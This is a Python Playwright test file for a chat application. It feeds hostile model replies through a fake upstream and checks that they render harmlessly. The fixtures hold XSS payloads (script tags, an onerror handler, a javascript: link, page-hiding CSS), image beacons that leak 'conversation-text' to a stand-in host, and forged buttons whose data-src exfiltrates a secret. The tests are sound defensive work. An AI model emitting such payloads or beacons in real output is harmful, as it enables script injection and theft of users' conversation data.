"""Hostile model output in the real app: nothing runs, nothing blanks the page, nothing leaks."""

from __future__ import annotations

from playwright.sync_api import Page, Request, expect

from tests.e2e.test_chat import last_answer, send
from tests.fake_upstream import FakeUpstream, Reply

HOSTILE = (
    "Intro paragraph.\n\n"
    "<style>body{display:none}</style>\n\n"
    "After style.\n\n"
    "<script>window.pwned = 'script'</script>\n\n"
    '<img src="x" onerror="window.pwned = \'onerror\'">\n\n'
    '<div style="position:fixed;inset:0;background:red;z-index:9999">overlay</div>\n\n'
    "[click me](javascript:window.pwned='link')\n\n"
    "![tracker](http://127.0.0.1:9/pixel.png?secret=conversation-text)\n\n"
    'Raw <img alt="inline beacon" src="http://127.0.0.1:9/pixel.png?raw=conversation-text"> too.\n\n'
    "```html\n<script>alert(1)</script>\n```\n\n"
    "Last line survives."
)


def test_hostile_markdown_is_inert_and_remote_images_wait_for_a_click(
    app_server, fake_upstream: FakeUpstream, page: Page
) -> None:
    fake_upstream.enqueue(Reply(text=HOSTILE, interval=0.005))
    app = app_server()
    image_requests: list[str] = []

    def on_request(request: Request) -> None:
        if "pixel.png" in request.url:
            image_requests.append(request.url)

    page.on("request", on_request)
    page.goto(app.url)
    send(page, "Be evil")
    answer = last_answer(page)
    expect(answer).to_have_attribute("data-status", "done")
    expect(answer).to_contain_text("Last line survives.")
    expect(answer).to_contain_text("After style.")
    expect(page.locator("body")).to_be_visible()
    expect(page.get_by_role("textbox", name="Message")).to_be_visible()
    assert page.evaluate("window.pwned") is None
    assert answer.locator("style, script, iframe, [onerror], [style*=fixed]").count() == 0
    expect(answer.locator("pre code")).to_contain_text("<script>alert(1)</script>")  # shown as text
    link = answer.get_by_role("link", name="click me")
    assert link.count() == 0 or not (link.get_attribute("href") or "").startswith("javascript")
    placeholder = answer.get_by_role("button", name="tracker")
    expect(placeholder).to_contain_text("127.0.0.1")
    expect(answer.get_by_role("button", name="inline beacon")).to_contain_text("127.0.0.1")  # a raw <img> too
    assert image_requests == []  # nothing fetched on its own
    placeholder.click()
    expect(answer.locator("img")).to_have_count(1)
    page.wait_for_function("() => document.querySelector('[data-role=assistant] img').complete")
    assert len(image_requests) == 1
    assert page.evaluate("window.pwned") is None


def test_links_open_in_a_new_tab_without_referrer(app_server, fake_upstream: FakeUpstream, page: Page) -> None:
    fake_upstream.enqueue(Reply(text="See [the docs](https://example.com/docs)."))
    app = app_server()
    page.goto(app.url)
    send(page, "Link please")
    link = last_answer(page).get_by_role("link", name="the docs")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer")


def test_model_html_cannot_forge_our_buttons(app_server, fake_upstream: FakeUpstream, page: Page) -> None:
    """#7 finding 11: a raw `button.md-img` labelled "Copy" fetched its data-src on click. The fake
    upstream stands in for the attacker: a real server, so a fetch would succeed if one were made."""
    stolen = f"{fake_upstream.url}/stolen.png?secret=conversation-text"
    fake_upstream.enqueue(
        Reply(
            text=(
                f'Run this: <button class="md-img" data-src="{stolen}" data-alt="x">Copy</button> '
                f'<span class="md-copy" data-src="{stolen}">Copy</span>\n\n'
                "```python\nprint('hi')\n```\n\n"
                f"![real picture]({fake_upstream.url}/real.png)\n\nThe end."
            ),
            interval=0.005,
        )
    )
    app = app_server()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=app.url)
    page.goto(app.url)
    send(page, "Show me")
    answer = last_answer(page)
    expect(answer).to_have_attribute("data-status", "done")
    expect(answer.locator(".md-view[data-final]")).to_have_count(1)
    expect(answer).to_contain_text("The end.")
    assert answer.locator("[data-src*=stolen], .md-view button.md-img[data-alt=x]").count() == 0
    for forged in answer.get_by_text("Run this:").all():  # the forged "buttons" are plain text now
        forged.click()
    copy = answer.locator(".md-view").get_by_role("button", name="Copy")
    expect(copy).to_have_count(1)  # only the code block's own
    copy.click()
    expect(copy).to_have_attribute("data-copied", "1")
    assert page.evaluate("navigator.clipboard.readText()") == "print('hi')\n"
    answer.get_by_role("button", name="real picture").click()
    expect(answer.locator("img")).to_have_count(1)
    page.wait_for_function("() => document.querySelector('[data-role=assistant] img').complete")
    assert [u for u in requests if u.startswith(fake_upstream.url)] == [f"{fake_upstream.url}/real.png"]
